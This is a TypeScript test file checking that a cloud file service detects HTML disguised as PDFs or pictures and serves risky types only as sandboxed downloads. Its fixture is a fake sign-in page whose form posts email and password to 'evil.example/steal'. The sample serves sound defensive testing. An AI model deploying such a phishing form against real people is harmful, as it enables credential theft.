import { randomUUID } from 'node:crypto';
import { HeadObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { describe, expect, inject, it } from 'vitest';
import { config } from '#aws/config';
import { SITE_PREVIEW_CSP } from '#contracts/response-headers';
import { CloudItem } from '#functions/cloud/entities';
import { textPdf } from '#local/seed-cloud';
import { callApi, createTestAgent, jsonBody, type TestAgent } from '../support/agents.ts';
import { api, type CloudItemBody, postToS3, startUpload, storageUsage } from '../support/cloud-files.ts';
import { testS3 } from '../support/s3.ts';

/**
 * User files are served as what their bytes are (issue 20, "Content"): a web page named as a PDF is
 * refused when its upload is confirmed; every other file keeps the type its bytes show, and only the types
 * a browser runs nothing of (pictures, PDF, plain text, video, audio) are served in place — the rest, and
 * anything under /media/ that is not one of them, only as downloads. Previews on the app origin send no form.
 */

const PAGE = Buffer.from(
  '<!doctype html><html><body><h1>Sign in to EstateNet</h1><form action="https://evil.example/steal" method="post"><input name="email"><input name="password" type="password"></form><script>top.__pwned = 1</script></body></html>',
);
const PNG = Buffer.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
]);

/** Start, post and confirm an upload as the app does, declaring `mimeType`; answers the confirm call. */
async function upload(agent: TestAgent, name: string, bytes: Uint8Array, mimeType: string) {
  const start = await startUpload(agent, { name, size: bytes.byteLength, mime_type: mimeType });
  expect(start.status, JSON.stringify(start.body)).toBe(200);
  expect(await postToS3(start.body, bytes, name)).toBe(204);
  const confirmed = await api<CloudItemBody & { mime_type?: string; error?: string; reason?: string }>(
    agent,
    `/cloud/${start.body.file.id}/confirm`,
    { method: 'POST' },
  );
  return { id: start.body.file.id, key: `cloud/${agent.agentId}/${start.body.file.id}`, ...confirmed };
}

/** What a browser gets from a URL: the type, the disposition and nosniff. */
async function served(url: string) {
  const response = await fetch(url);
  await response.arrayBuffer();
  return {
    status: response.status,
    type: response.headers.get('content-type'),
    disposition: response.headers.get('content-disposition'),
    nosniff: response.headers.get('x-content-type-options'),
  };
}

const downloadUrl = async (agent: TestAgent, id: string) => {
  const link = await api<{ url: string; mime_type?: string }>(agent, `/cloud/${id}/download`);
  expect(link.status).toBe(200);
  return link.body;
};

describe('cloud files are what their bytes are', () => {
  it('refuses a web page named as a PDF when its upload is confirmed, saying what it is; nothing is kept', async () => {
    const agent = await createTestAgent();

    const refused = await upload(agent, 'offer.pdf', PAGE, 'application/pdf');

    expect(refused.status).toBe(415);
    expect(refused.body).toEqual({
      error:
        '“offer.pdf” is not a PDF: its contents are a web page (HTML). Upload the real file, or give it a name that says what it is (.html for a web page).',
      reason: 'disguised_file',
      code: 'unsupported_media_type',
    });
    // the same answer again, and the file is nowhere: no item, no bytes, no storage
    expect((await api(agent, `/cloud/${refused.id}/confirm`, { method: 'POST' })).status).toBe(415);
    expect((await api(agent, `/cloud/${refused.id}`)).status).toBe(404);
    expect(await storageUsage(agent)).toBe(0);
    await expect(
      testS3().send(new HeadObjectCommand({ Bucket: config.buckets.files, Key: refused.key })),
    ).rejects.toThrow();
  });

  it('refuses it also when the S3 event settles the upload before any confirm call', async () => {
    const agent = await createTestAgent();
    const start = await startUpload(agent, {
      name: 'front.jpg',
      size: PAGE.byteLength,
      mime_type: 'image/jpeg',
    });

    expect(await postToS3(start.body, PAGE, 'front.jpg')).toBe(204);

    await expect
      .poll(async () => (await CloudItem.get({ id: start.body.file.id }, { consistent: true }))?.rejection)
      .toBe('disguised');
    const confirmed = await api<{ error: string }>(agent, `/cloud/${start.body.file.id}/confirm`, {
      method: 'POST',
    });
    expect(confirmed.status).toBe(415);
    expect(confirmed.body.error).toMatch(/^“front\.jpg” is not a picture: its contents are a web page/);
    expect(await storageUsage(agent)).toBe(0);
  });

  it('keeps a web page that says it is one, typed as such, and serves it only as a download', async () => {
    const agent = await createTestAgent();

    const kept = await upload(agent, 'brochure.html', PAGE, 'text/html');

    expect(kept.status).toBe(200);
    expect(kept.body.mime_type).toBe('text/html');
    for (const url of [kept.body.url!, (await downloadUrl(agent, kept.id)).url]) {
      const answer = await served(url);
      expect(answer.status).toBe(200);
      expect(answer.type).toBe('text/html');
      expect(answer.disposition).toBe("attachment; filename*=UTF-8''brochure.html");
    }
  });

  it('serves a picture, a PDF and text in place as their bytes are, whatever they were declared as', async () => {
    const agent = await createTestAgent();

    const picture = await upload(agent, 'front.pdf', PNG, 'application/pdf');
    const pdf = await upload(agent, 'plan.pdf', textPdf(['Plan']), 'application/octet-stream');
    const notes = await upload(agent, 'notes.txt', Buffer.from('ask about parking'), 'text/html');

    expect([picture.body.mime_type, pdf.body.mime_type, notes.body.mime_type]).toEqual([
      'image/png',
      'application/pdf',
      'text/plain',
    ]);
    expect(await served(picture.body.url!)).toMatchObject({
      status: 200,
      type: 'image/png',
      disposition: "inline; filename*=UTF-8''front.pdf",
    });
    expect(await served(pdf.body.url!)).toMatchObject({
      type: 'application/pdf',
      disposition: expect.stringMatching(/^inline/),
    });
    expect((await served(notes.body.url!)).disposition).toMatch(/^inline/);
    expect((await served(notes.body.url!)).type).toBe('text/plain');
    // the download link is always an attachment, of the same type
    expect(await served((await downloadUrl(agent, picture.id)).url)).toMatchObject({
      type: 'image/png',
      disposition: "attachment; filename*=UTF-8''front.pdf",
    });
  });

  it('stores every object as a plain download, whatever its uploader declared', async () => {
    const agent = await createTestAgent();
    const start = await startUpload(agent, { name: 'a.html', size: 5, mime_type: 'text/html' });
    const conditions = JSON.parse(Buffer.from(start.body.fields.Policy!, 'base64').toString('utf8'))
      .conditions as unknown[];
    expect(conditions).toContainEqual({ 'Content-Type': 'application/octet-stream' });
    expect(conditions).toContainEqual({ 'Content-Disposition': 'attachment' });

    expect(await postToS3(start.body, Buffer.from('hello'), 'a.html')).toBe(204);
    const head = await testS3().send(
      new HeadObjectCommand({
        Bucket: config.buckets.files,
        Key: `cloud/${agent.agentId}/${start.body.file.id}`,
      }),
    );
    expect(head.ContentType).toBe('application/octet-stream');
  });

  it('serves a file stored before its bytes were read (no type read from them) only as a download', async () => {
    const agent = await createTestAgent();
    const id = randomUUID();
    const key = `cloud/${agent.agentId}/${id}`;
    const now = new Date().toISOString();
    await CloudItem.create({
      id,
      agent_id: agent.agentId,
      name: 'offer.pdf',
      type: 'file',
      mime_type: 'application/pdf',
      file_type: 'pdf',
      size: PAGE.byteLength,
      object_key: key,
      state: 'active',
      shared_with: [],
      metadata: {},
      created_at: now,
      updated_at: now,
      version: 1,
    });
    // after its item, as every cloud object arrives (the storage consumer deletes an object nobody owns)
    await testS3().send(
      new PutObjectCommand({ Bucket: config.buckets.files, Key: key, Body: PAGE, ContentType: 'text/html' }),
    );

    const item = await api<CloudItemBody>(agent, `/cloud/${id}`);

    expect(item.status).toBe(200);
    for (const url of [item.body.url!, (await downloadUrl(agent, id)).url]) {
      expect(await served(url)).toMatchObject({
        status: 200,
        type: 'application/octet-stream',
        disposition: "attachment; filename*=UTF-8''offer.pdf",
      });
    }
  });
});

describe('public media on the app origin', () => {
  const put = (key: string, body: Uint8Array | string, contentType: string) =>
    testS3().send(
      new PutObjectCommand({
        Bucket: inject('cloud').env.FILES_BUCKET,
        Key: key,
        Body: body,
        ContentType: contentType,
      }),
    );

  it('shows pictures in place with nosniff, and sends anything else under media/ as an attachment', async () => {
    const folder = `media/websites/${randomUUID()}`;
    await put(`${folder}/photo.png`, PNG, 'image/png');
    await put(`${folder}/page.html`, PAGE, 'text/html');
    await put(`${folder}/drawing.svg`, '<svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml');

    const picture = await callApi(`/${folder}/photo.png`);
    expect(picture.headers.get('content-type')).toBe('image/png');
    expect(picture.headers.get('content-disposition')).toBeNull();
    expect(picture.headers.get('x-content-type-options')).toBe('nosniff');
    for (const name of ['page.html', 'drawing.svg']) {
      const answer = await callApi(`/${folder}/${name}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-disposition'), name).toBe('attachment');
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });
});

describe('previews of published pages on the app origin', () => {
  it('are sandboxed without forms: nothing a page on the app’s address asks for can be sent', async () => {
    const agent = await createTestAgent();
    const made = await api<{ id: string }>(
      agent,
      '/websites',
      jsonBody('POST', { name: `Preview ${randomUUID().slice(0, 6)}`, template_id: 'coastal' }),
    );
    expect(made.status).toBe(201);

    // the preview address answers with the previews' headers whether or not the site is published yet
    const preview = await callApi(`/sites/${made.body.id}/`);
    await preview.arrayBuffer();

    const csp = preview.headers.get('content-security-policy') ?? '';
    expect(csp).toBe(SITE_PREVIEW_CSP);
    const sandbox = csp.split('; ').find((directive) => directive.startsWith('sandbox'));
    expect(sandbox).toBe('sandbox allow-popups');
    expect(csp).toContain("form-action 'self'");
  });
});
